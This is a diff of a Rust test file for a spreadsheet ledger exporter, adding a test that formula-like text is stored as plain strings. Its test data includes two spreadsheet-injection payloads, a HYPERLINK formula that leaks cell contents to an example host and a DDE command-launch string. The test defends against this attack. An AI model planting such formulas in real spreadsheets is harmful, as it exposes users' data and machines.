@@ -109,3 +109,22 @@ fn the_worker_answers_a_request_with_the_same_workbook() {
     assert_eq!(id, 0);
     assert!(result.unwrap_err().starts_with("导出请求无法读取"));
 }
+
+#[test]
+fn a_text_that_looks_like_a_formula_is_written_as_a_string_not_a_formula() {
+    let ledger = formula_ledger();
+    let bytes = ledger_xlsx(&ledger).unwrap();
+    let (_, _, raw) = read_back(&bytes);
+    let first = &raw[HEADER_ROW as usize + 1];
+    assert_eq!(
+        first[3],
+        Data::String("=HYPERLINK(\"http://example.com/?d=\"&A1,\"点击查看\")".to_owned())
+    );
+    assert_eq!(first[9], Data::String("=cmd|' /C calc'!A0".to_owned()));
+    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
+    let formulas = book.worksheet_formula("任务台账").unwrap();
+    assert!(
+        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+        "no cell holds a formula"
+    );
+}
